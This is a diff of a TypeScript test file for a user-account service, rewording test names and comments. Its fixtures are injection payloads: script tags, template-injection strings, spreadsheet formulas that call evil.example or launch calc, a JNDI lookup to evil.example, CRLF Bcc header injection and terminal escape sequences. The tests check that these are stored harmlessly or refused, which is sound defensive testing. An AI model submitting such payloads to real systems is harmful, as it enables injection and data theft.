@@ -3,7 +3,7 @@ import type { Mail } from "../../lib/runtime/platform.ts";
 import { mailTo, newPerson, type Person, register, signIn } from "../support/flows/main-flow.ts";
 import { startUsermesh, type Usermesh } from "../support/start/usermesh.ts";
 
-/** [V1.2, 16.4.1] Text that means something to a mail server, a browser, a terminal, a spreadsheet or a template. */
+/** [ASVS V1.2, V16.4.1] Text with a meaning for mail servers, browsers, terminals, spreadsheets or templates. */
 let usermesh: Usermesh;
 beforeAll(async () => {
   usermesh = await startUsermesh();
@@ -13,7 +13,7 @@ afterAll(() => usermesh.stop());
 const kept: ReadonlyArray<readonly [string, string]> = [
   ["HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&"],
   ["an HTML comment and its end", "--><svg/onload=alert(1)><!--"],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template engine would take for one
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: this text looks like one to a template engine
   ["a template", "{{constructor.constructor('x')()}} ${7*7} #{7*7} <%= 7*7 %> %s %n"],
   ["a formula", '=HYPERLINK("http://evil.example","x")+cmd|\' /C calc\'!A0'],
   ["another formula", "@SUM(1+1)*cmd|' /C calc'!A0"],
@@ -21,10 +21,10 @@ const kept: ReadonlyArray<readonly [string, string]> = [
   // biome-ignore lint/suspicious/noTemplateCurlyInString: likewise
   ["a lookup", "${jndi:ldap://evil.example/x}"],
   ["bidi marks", "\u202egnp.exe\u202c \u2066x\u2069"],
-  ["no width", "a\u200bd\u200da\ufeff"],
-  ["four-byte letters", "😀𝒜𠜎👨‍👩‍👧"],
-  ["combining marks by the dozen", `Z${"\u0301".repeat(60)}`],
-  ["a line end", "Ada\r\nBcc: victim@example.com\r\n\r\nHello"],
+  ["zero-width characters", "a\u200bd\u200da\ufeff"],
+  ["four-byte characters", "😀𝒜𠜎👨‍👩‍👧"],
+  ["dozens of combining marks", `Z${"\u0301".repeat(60)}`],
+  ["a line break", "Ada\r\nBcc: victim@example.com\r\n\r\nHello"],
   ["a link", "Ada https://evil.example/win now"],
   ["a header", "Ada\nSubject: You won\nX: y"],
 ];
@@ -32,7 +32,7 @@ const refused: ReadonlyArray<readonly [string, string]> = [
   ["NUL", "Ada\u0000Lovelace"],
   ["an escape sequence", "Ada\u001b[2J\u001b]0;owned\u0007"],
   ["a backspace", "Ada\b\b\bEve"],
-  ["half a character", "Ada\ud800"],
+  ["a lone surrogate", "Ada\ud800"],
   ["a C1 control", "Ada\u009b31m"],
 ];
 
@@ -40,10 +40,10 @@ const registered = async (full_name: string): Promise<Person & { id: string }> =
   register(usermesh, newPerson(), { full_name });
 const named = (text: string) => text.slice(0, 255);
 
-describe.each(kept)("a name of %s", (_, text) => {
+describe.each(kept)("a name with %s", (_, text) => {
   const name = named(text);
 
-  test("is kept as typed: for its owner, in the export, in the token and for an administrator", async () => {
+  test("is stored as typed: for its owner, in the export, in the token and for administrators", async () => {
     const person = await registered(name);
     const { access } = await signIn(usermesh, person);
     expect((await usermesh.api.get("users/me", access)).body.data.full_name).toBe(name);
@@ -55,7 +55,7 @@ describe.each(kept)("a name of %s", (_, text) => {
     expect((await usermesh.api.get(`admin/users/${person.id}`, admin.access)).body.data.full_name).toBe(name);
   });
 
-  test("is harmless in a mail: it makes no header, no recipient, no element, no line and no link of its own", async () => {
+  test("is harmless in a mail: it adds no header, recipient, element, line or link", async () => {
     const person = await registered(name);
     const mail = await mailTo(usermesh, person.email, /verify-email/);
     const plain = await plainMail();
@@ -67,7 +67,7 @@ describe.each(kept)("a name of %s", (_, text) => {
     expect(`${mail.text}${mail.html}`).not.toMatch(/evil\.example|victim@|[\u202a-\u202e\u2066-\u2069]/);
   });
 
-  test("is harmless on the page of mails", async () => {
+  test("is harmless on the mailbox page", async () => {
     const person = await registered(name);
     await mailTo(usermesh, person.email, /verify-email/);
     const page = await fetch(`${usermesh.url}/dev/mail`, { headers: { accept: "text/html" } });
@@ -77,7 +77,7 @@ describe.each(kept)("a name of %s", (_, text) => {
 });
 
 describe.each(refused)("a text with %s", (_, text) => {
-  test("is refused in every field of a person, and nothing changes", async () => {
+  test("is refused in every field of a user, and nothing changes", async () => {
     const { access } = await signIn(usermesh, await registered("Ada"));
     // The sign-in is noted by an event.
     await usermesh.settled();
@@ -93,7 +93,7 @@ describe.each(refused)("a text with %s", (_, text) => {
     expect((await usermesh.api.get("users/me", access)).body.data).toEqual(before);
   });
 
-  test("is no device's name and no sign-in's, and ends in no 500", async () => {
+  test("is refused as a device name and in a login, without a 500", async () => {
     const { email, password } = await registered("Ada");
     const login = (more: object) => usermesh.api.post("auth/login", { email, password, ...more });
     expect((await login({ device_name: text })).status).toBe(422);
@@ -107,7 +107,7 @@ describe.each(refused)("a text with %s", (_, text) => {
 const registerAt = (text: string) =>
   usermesh.api.post("auth/register", { ...newPerson(), email: `a${text}@example.com` });
 
-describe("an address", () => {
+describe("an email address", () => {
   test.each([
     "a@example.com\r\nBcc: victim@example.com",
     "a@example.com,victim@example.com",
@@ -125,13 +125,13 @@ describe("an address", () => {
     "a@[127.0.0.1]",
     " a@example.com",
     `${"a".repeat(65)}@example.com`,
-  ])("%j is none", async (email) => {
+  ])("%j is refused", async (email) => {
     const { status, body } = await usermesh.api.post("auth/register", { ...newPerson(), email });
     expect([status, body.errors?.[0]?.field]).toEqual([422, "email"]);
   });
 });
 
-describe("a URL of a person", () => {
+describe("a URL in a profile", () => {
   test.each([
     "javascript:alert(1)",
     "data:text/html,x",
@@ -139,14 +139,14 @@ describe("a URL of a person", () => {
     "//evil.example",
     "https://",
     "java\nscript:alert(1)",
-  ])("%j is none", async (url) => {
+  ])("%j is refused", async (url) => {
     const { access } = await signIn(usermesh, await registered("Ada"));
     for (const field of ["website_url", "linkedin_url", "github_url"])
       expect((await usermesh.api.patch("users/me/profile", { [field]: url }, access)).status).toBe(422);
   });
 });
 
-test("a device calls itself what it likes, in the list of sessions alone", async () => {
+test("a device name appears in the list of sessions only", async () => {
   const { email, password } = await registered("Ada");
   const headers = { "user-agent": "<script>alert(1)</script> {{7*7}}" };
   const body = { email, password, device_name: "<b>=1+1</b>" };
@@ -157,7 +157,7 @@ test("a device calls itself what it likes, in the list of sessions alone", async
 });
 
 let plain: Promise<Mail> | undefined;
-/** The same mail to somebody without a name of that kind. */
+/** The same mail to a user with an ordinary name. */
 function plainMail(): Promise<Mail> {
   plain ??= registered("Ada Lovelace").then(({ email }) => mailTo(usermesh, email, /verify-email/));
   return plain;
